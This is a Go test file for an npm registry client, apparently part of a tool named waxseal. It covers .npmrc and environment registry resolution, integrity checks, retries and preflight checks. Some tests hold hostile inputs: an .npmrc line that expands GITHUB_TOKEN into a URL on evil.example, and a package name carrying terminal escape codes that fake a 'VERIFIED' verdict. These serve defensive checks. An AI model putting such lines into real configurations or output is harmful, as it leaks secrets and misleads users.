package registry

import (
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/waxseal/waxseal/internal/retry"
	"github.com/waxseal/waxseal/internal/testing/npmregistry"
	"github.com/waxseal/waxseal/internal/testing/retrytest"
)

func TestURLFor(t *testing.T) {
	t.Parallel()
	project, home := t.TempDir(), t.TempDir()
	write := func(dir, content string) {
		if err := os.WriteFile(filepath.Join(dir, ".npmrc"), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write(project, "; project settings\n@corp:registry = https://npm.corp.example/\n")
	write(home, "# user settings\nregistry=\"https://mirror.example/npm/\"\n//mirror.example/:_authToken=secret\n")
	tests := []struct {
		name string
		pkg  string
		env  map[string]string
		dir  string
		want string
	}{
		{"default", "left-pad", nil, "", DefaultURL},
		{"environment", "left-pad", map[string]string{"npm_config_registry": "https://env.example/"}, project, "https://env.example/"},
		{"upper-case environment", "left-pad", map[string]string{"NPM_CONFIG_REGISTRY": "https://env.example/"}, "", "https://env.example/"},
		{"user .npmrc", "left-pad", map[string]string{"HOME": home}, project, "https://mirror.example/npm/"},
		{"scope in project .npmrc", "@corp/tool", map[string]string{"HOME": home}, project, "https://npm.corp.example/"},
		{"scope environment beats project", "@corp/tool", map[string]string{"npm_config_@corp:registry": "https://scoped.example/"}, project, "https://scoped.example/"},
		{"other scope falls back", "@other/tool", map[string]string{"HOME": home}, project, "https://mirror.example/npm/"},
		{"setup-node's userconfig", "left-pad", map[string]string{"HOME": project, "NPM_CONFIG_USERCONFIG": filepath.Join(home, ".npmrc")}, "", "https://mirror.example/npm/"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := URLFor(tt.pkg, tt.dir, func(k string) string { return tt.env[k] })
			if err != nil || got != tt.want {
				t.Errorf("URLFor(%q) = %q, want %q", tt.pkg, got, tt.want)
			}
		})
	}
}

// TestURLForNeverExpandsVariables: a repository's .npmrc could name registry=https://evil/${GITHUB_TOKEN}/; npm
// would expand it and send the secret there. waxseal refuses, and the error does not show the secret.
func TestURLForNeverExpandsVariables(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, ".npmrc"), []byte("registry=https://evil.example/${GITHUB_TOKEN}/\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"GITHUB_TOKEN": "ghs_supersecret0123456789"}
	got, err := URLFor("left-pad", dir, func(k string) string { return env[k] })
	if err == nil || got != "" {
		t.Fatalf("URLFor = %q, %v; want a refusal", got, err)
	}
	if strings.Contains(err.Error(), "ghs_supersecret") || !strings.Contains(err.Error(), "pass --registry") {
		t.Errorf("err = %q: want the fix and no secret", err)
	}
}

func TestErrorsRedactURLs(t *testing.T) {
	t.Parallel()
	e := &HTTPError{URL: "https://user:s3cret@registry.example/pkg/1.0.0?token=abc", Status: 404}
	if strings.Contains(e.Error(), "s3cret") || strings.Contains(e.Error(), "token=abc") || !strings.Contains(e.Error(), "https://registry.example/pkg/1.0.0") {
		t.Errorf("HTTPError = %q, want the URL without credentials", e)
	}
	if _, err := New(nil, retry.Policy{}, "ftp://user:s3cret@registry.example/"); err == nil || strings.Contains(err.Error(), "s3cret") {
		t.Errorf("New with a bad URL: %v, want an error without the credentials", err)
	}
}

func TestVersionAndTarball(t *testing.T) {
	t.Parallel()
	tarball := []byte("not really a tarball, but bytes with a digest")
	sum := sha512.Sum512(tarball)
	var srv *httptest.Server
	var paths []string
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		paths = append(paths, r.Method+" "+r.URL.EscapedPath())
		switch r.URL.EscapedPath() {
		case "/@scope%2Fpkg/1.2.3":
			json.NewEncoder(w).Encode(map[string]any{"name": "@scope/pkg", "version": "1.2.3", "dist": map[string]string{
				"tarball": srv.URL + "/@scope/pkg/-/pkg-1.2.3.tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]),
			}})
		case "/@scope%2Fpkg/6.6.6":
			json.NewEncoder(w).Encode(map[string]any{"name": "@scope/pkg", "version": "6.6.6", "dist": map[string]string{
				"tarball": srv.URL + "/@scope/pkg/-/pkg-1.2.3.tgz", "integrity": "sha512-" + base64.StdEncoding.EncodeToString(make([]byte, 64)),
			}})
		case "/@scope%2Fpkg/1.0.0":
			json.NewEncoder(w).Encode(map[string]any{"name": "@scope/pkg", "version": "1.0.0", "dist": map[string]string{
				"tarball": srv.URL + "/@scope/pkg/-/pkg-1.0.0.tgz", "integrity": "sha1-" + base64.StdEncoding.EncodeToString(make([]byte, 20)),
			}})
		case "/@scope%2Fpkg/7.7.7": // a hostile registry's name that would clear the screen and print a verdict
			json.NewEncoder(w).Encode(map[string]any{"name": "\x1b[2J\x1b[32mVERIFIED sigstore", "version": "2.0.0"})
		case "/@scope/pkg/-/pkg-1.2.3.tgz":
			w.Write(tarball)
		default:
			http.Error(w, `{"error":"Not found"}`, http.StatusNotFound)
		}
	}))
	t.Cleanup(srv.Close)
	c, err := New(srv.Client().Transport, retry.Policy{Clock: &retrytest.Clock{}}, srv.URL)
	if err != nil {
		t.Fatal(err)
	}

	v, err := c.Version(t.Context(), "@scope/pkg", "1.2.3")
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.Tarball(t.Context(), v)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(tarball, got); diff != "" {
		t.Errorf("tarball (-want +got):\n%s", diff)
	}

	v, err = c.Version(t.Context(), "@scope/pkg", "6.6.6")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Tarball(t.Context(), v); !errors.Is(err, ErrIntegrity) {
		t.Errorf("tarball against another integrity: got %v, want ErrIntegrity", err)
	}
	v, err = c.Version(t.Context(), "@scope/pkg", "1.0.0")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Tarball(t.Context(), v); err == nil || !strings.Contains(err.Error(), "has no sha512") {
		t.Errorf("sha1-only integrity: got %v, want a refusal", err)
	}
	_, err = c.Version(t.Context(), "@scope/pkg", "9.9.9")
	var he *HTTPError
	if !errors.As(err, &he) || he.Status != http.StatusNotFound || !strings.Contains(err.Error(), "check the package name and version") {
		t.Errorf("missing version: got %v, want a 404 HTTPError that says what to check", err)
	}
	_, err = c.Version(t.Context(), "@scope/pkg", "7.7.7")
	if err == nil || strings.ContainsRune(err.Error(), 0x1b) || !strings.Contains(err.Error(), `answered for "\x1b[2J`) {
		t.Errorf("another package's name with terminal escapes: got %q, want a refusal that quotes the name", err)
	}
	want := []string{"GET /@scope%2Fpkg/1.2.3", "GET /@scope/pkg/-/pkg-1.2.3.tgz", "GET /@scope%2Fpkg/6.6.6", "GET /@scope/pkg/-/pkg-1.2.3.tgz", "GET /@scope%2Fpkg/1.0.0", "GET /@scope%2Fpkg/9.9.9",
		"GET /@scope%2Fpkg/7.7.7"}
	if diff := cmp.Diff(want, paths); diff != "" {
		t.Errorf("requests (-want +got):\n%s", diff)
	}
}

func TestNewRefusesNonHTTPRegistry(t *testing.T) {
	t.Parallel()
	for _, u := range []string{"", "ftp://registry.example/", "registry.npmjs.org", "https://"} {
		if _, err := New(nil, retry.Policy{}, u); err == nil {
			t.Errorf("New(%q) accepted it", u)
		}
	}
}

func FuzzParseIntegrity(f *testing.F) {
	sum := sha512.Sum512([]byte("x"))
	f.Add("sha512-" + base64.StdEncoding.EncodeToString(sum[:]))
	f.Add("sha1-abc sha512-" + base64.StdEncoding.EncodeToString(sum[:]) + "?opt")
	f.Add("sha512-!!!")
	f.Fuzz(func(t *testing.T, sri string) {
		d, err := parseIntegrity(sri)
		if err != nil {
			return
		}
		// Whatever parses must round-trip to a sha512- token present in the input.
		if !strings.Contains(sri, "sha512-"+base64.StdEncoding.EncodeToString(d[:])) {
			t.Errorf("parseIntegrity(%q) = %x, not in the input", sri, d)
		}
	})
}

func TestRegistryRetriesAndNamesItself(t *testing.T) {
	t.Parallel()
	calls := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		calls++
		switch {
		case calls == 1:
			http.Error(w, "<html>502 Bad Gateway</html>", http.StatusBadGateway)
		case calls == 2:
			w.Header().Set("Retry-After", "2")
			w.WriteHeader(http.StatusTooManyRequests)
		case r.URL.Path == "/down/1.0.0":
			w.WriteHeader(http.StatusServiceUnavailable)
		default:
			json.NewEncoder(w).Encode(map[string]any{"name": "pkg", "version": "1.0.0", "dist": map[string]string{"tarball": "x", "integrity": "sha512-x"}})
		}
	}))
	t.Cleanup(srv.Close)
	clock := &retrytest.Clock{}
	c, err := New(srv.Client().Transport, retry.Policy{Clock: clock, For: time.Minute}, srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := c.Version(t.Context(), "pkg", "1.0.0"); err != nil || calls != 3 {
		t.Fatalf("Version after a 502 and a 429: %v (%d calls), want success on the third", err, calls)
	}
	if slept := clock.Slept(); len(slept) != 2 || slept[1] != 2*time.Second {
		t.Errorf("slept %v, want a backoff then the 2s Retry-After", slept)
	}
	_, err = c.Version(t.Context(), "down", "1.0.0")
	var re *retry.Error
	if !errors.As(err, &re) || re.Status != 503 || !strings.Contains(err.Error(), "the npm registry (GET ") || !strings.Contains(err.Error(), "status.npmjs.org") {
		t.Errorf("err = %v, want the registry named with its 503 and where to look", err)
	}
}

func TestPreflight(t *testing.T) {
	t.Parallel()
	reg := npmregistry.New("t")
	t.Cleanup(reg.Close)
	reg.AddVersion("@scope/pkg", "1.0.0", []byte("tgz"))
	reg.AddVersion("left-pad", "1.3.0", []byte("tgz"))
	reg.AddVersion("left-pad", "1.3.1", []byte("tgz"))
	reg.Unpublish("left-pad", "1.3.1")
	reg.AddUnpublished("gone", "1.0.0", "1.0.1")
	reg.AddVersion("dwindled", "1.0.0", []byte("tgz"))
	reg.AddVersion("dwindled", "1.1.0", []byte("tgz"))
	reg.Unpublish("dwindled", "1.0.0")
	reg.Unpublish("dwindled", "1.1.0")
	c, err := New(reg.Client().Transport, retry.Policy{Clock: &retrytest.Clock{}}, reg.URL)
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, version string
		want          Availability
	}{
		{"@scope/pkg", "1.0.0", VersionExists},
		{"@scope/pkg", "1.1.0", NewVersion},
		{"left-pad", "1.3.0", VersionExists},
		{"left-pad", "2.0.0", NewVersion},
		// The abbreviated document has no time record; npm publish refuses this version itself.
		{"left-pad", "1.3.1", NewVersion},
		{"brand-new", "0.1.0", NewPackage},
		{"gone", "1.0.1", VersionUnpublished},
		{"gone", "2.0.0", NewPackage},
		// Unpublished one at a time: the last is in time.unpublished, the earlier one only in the time record.
		{"dwindled", "1.1.0", VersionUnpublished},
		{"dwindled", "1.0.0", VersionUnpublished},
		{"dwindled", "2.0.0", NewPackage},
	} {
		got, err := c.Preflight(t.Context(), tc.name, tc.version)
		if err != nil || got != tc.want {
			t.Errorf("Preflight(%s@%s) = %v, %v; want %v", tc.name, tc.version, got, err, tc.want)
		}
	}
	// A registry that wants a token for reads: the error says so, and names the registry.
	deny := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		http.Error(w, `{"error":"authentication required"}`, http.StatusUnauthorized)
	}))
	t.Cleanup(deny.Close)
	c, _ = New(nil, retry.Policy{Clock: &retrytest.Clock{}}, deny.URL)
	if _, err := c.Preflight(t.Context(), "x", "1.0.0"); err == nil || !strings.Contains(err.Error(), "HTTP 401") {
		t.Errorf("Preflight against a registry that refuses reads: %v", err)
	}
}

// recording serves reg's answers and records "Accept path" of every request; strip drops the Accept header
// first, as a registry without the abbreviated form ignores it.
func recording(t *testing.T, reg *npmregistry.Server, strip bool) (*httptest.Server, func() []string) {
	var mu sync.Mutex
	var seen []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Header.Get("Accept")+" "+r.URL.EscapedPath())
		mu.Unlock()
		if strip {
			r.Header.Del("Accept")
		}
		reg.Config.Handler.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	return srv, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return slices.Clone(seen)
	}
}

// bigPackage adds a package of count versions to reg whose full document is about count*7 KB (next's is 21 MB):
// each version carries the fields a full document keeps (a readme, scripts) and the install fields an abbreviated
// one keeps (dependencies).
func bigPackage(reg *npmregistry.Server, name string, count int) {
	filler := strings.Repeat("Lorem ipsum dolor sit amet. ", 250)
	for i := range count {
		v := fmt.Sprintf("15.%d.%d-canary.%d", i/1000, i/100%10, i%100)
		reg.AddVersion(name, v, []byte("tgz"))
		reg.SetFields(name, v, map[string]any{"readme": filler, "description": "The React Framework",
			"scripts":      map[string]string{"build": "taskr release", "prepublishOnly": "cd ../../ && turbo run build"},
			"dependencies": map[string]string{"@next/env": v, "@swc/helpers": "0.5.15", "busboy": "1.6.0", "caniuse-lite": "^1.0.30001579"}})
	}
}

// TestPreflightLargePackage: a new version of a package whose full document is 21 MB (next's size) is judged from
// the version's document and the abbreviated document, at once, without a wait; so is a package on a registry that
// has no abbreviated form and sends the full document.
func TestPreflightLargePackage(t *testing.T) {
	t.Parallel()
	reg := npmregistry.New("t")
	t.Cleanup(reg.Close)
	bigPackage(reg, "next", 3000)
	resp, err := reg.Client().Get(reg.URL + "/next")
	if err != nil {
		t.Fatal(err)
	}
	full, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if len(full) < 20<<20 {
		t.Fatalf("the full document is %d bytes, want a 21 MB-class one", len(full))
	}
	const accept = "application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*"
	tests := []struct {
		name         string
		strip        bool
		version      string
		want         Availability
		wantRequests []string
	}{
		{name: "new version", version: "15.2.99-canary.99", want: NewVersion,
			wantRequests: []string{"application/json /next/15.2.99-canary.99", accept + " /next"}},
		{name: "published version", version: "15.2.9-canary.99", want: VersionExists,
			wantRequests: []string{"application/json /next/15.2.9-canary.99"}},
		{name: "new version, registry without the abbreviated form", strip: true, version: "15.2.99-canary.99", want: NewVersion,
			wantRequests: []string{"application/json /next/15.2.99-canary.99", accept + " /next"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			srv, seen := recording(t, reg, tc.strip)
			clock := &retrytest.Clock{}
			c, err := New(retrytest.Transport(t), retrytest.Policy(clock), srv.URL)
			if err != nil {
				t.Fatal(err)
			}
			got, err := c.Preflight(t.Context(), "next", tc.version)
			if err != nil || got != tc.want {
				t.Errorf("Preflight(next@%s) = %v, %v; want %v", tc.version, got, err, tc.want)
			}
			if clock.Total() != 0 {
				t.Errorf("waited %v on the retry clock, want no retries", clock.Slept())
			}
			if diff := cmp.Diff(tc.wantRequests, seen()); diff != "" {
				t.Errorf("requests (-want +got):\n%s", diff)
			}
		})
	}
}

// TestPreflightFallsBackToTheFullDocument: a registry whose 404 for the abbreviated document is bare is asked for the
// full one, as pacote does, and its record of an unpublished package is read from that.
func TestPreflightFallsBackToTheFullDocument(t *testing.T) {
	t.Parallel()
	reg := npmregistry.New("t")
	t.Cleanup(reg.Close)
	reg.AddUnpublished("gone", "1.0.0")
	var seen []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		seen = append(seen, r.Header.Get("Accept")+" "+r.URL.EscapedPath())
		if strings.Contains(r.Header.Get("Accept"), "install-v1") {
			http.Error(w, `{"error":"Not found"}`, http.StatusNotFound)
			return
		}
		reg.Config.Handler.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	c, err := New(srv.Client().Transport, retry.Policy{Clock: &retrytest.Clock{}}, srv.URL)
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.Preflight(t.Context(), "gone", "1.0.0")
	if err != nil || got != VersionUnpublished {
		t.Errorf("Preflight(gone@1.0.0) = %v, %v; want VersionUnpublished", got, err)
	}
	if len(seen) != 3 || !strings.HasPrefix(seen[2], "application/json /gone") {
		t.Errorf("requests %q, want the version, the abbreviated document, then the full one", seen)
	}
}

func TestAttestations(t *testing.T) {
	t.Parallel()
	reg := npmregistry.New("t")
	t.Cleanup(reg.Close)
	reg.AddVersion("@scope/pkg", "1.0.0", []byte("tgz"), npmregistry.Attestation{PredicateType: "https://slsa.dev/provenance/v1", Bundle: []byte(`{"mediaType":"x"}`)})
	c, _ := New(nil, retry.Policy{Clock: &retrytest.Clock{}}, reg.URL)
	got, err := c.Attestations(t.Context(), "@scope/pkg", "1.0.0")
	if err != nil || len(got) != 1 || got[0].PredicateType != "https://slsa.dev/provenance/v1" || string(got[0].Bundle) != `{"mediaType":"x"}` {
		t.Errorf("Attestations = %+v, %v", got, err)
	}
	if _, err := c.Attestations(t.Context(), "@scope/pkg", "9.9.9"); err == nil || !strings.Contains(err.Error(), "404") {
		t.Errorf("Attestations of a version without any: %v, want the 404", err)
	}
}
